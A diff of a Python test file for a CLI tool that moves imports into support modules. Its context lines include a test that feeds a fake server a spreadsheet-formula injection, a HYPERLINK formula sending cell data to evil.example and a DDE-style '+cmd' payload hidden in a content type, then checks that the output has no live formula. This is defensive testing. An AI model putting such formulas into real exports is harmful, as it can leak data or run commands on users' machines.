@@ -13,7 +13,7 @@ import threading
 
 import pytest
 
-from tests.conftest import CANARY_SECRET
+from tests.support.canaries import CANARY_SECRET
 from widgets.cli.main import EXIT_OK, EXIT_USAGE, main
 from widgets.cli.pending import load_state_file, open_private
 from widgets.core.errors import ConfigError
@@ -186,7 +186,7 @@ def test_open_private_creates_0600_and_refuses_an_existing_file_unless_replacing
 def test_the_transcript_of_a_formula_answering_provider_has_no_live_formula(capsys, scripted, tmp_path, monkeypatch):
     import csv
 
-    from tests.conftest import Reply
+    from tests.support.servers import Reply
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
     scripted.routes["/token"] = Reply(400, formula, content_type="+cmd|' /C calc'!A0")
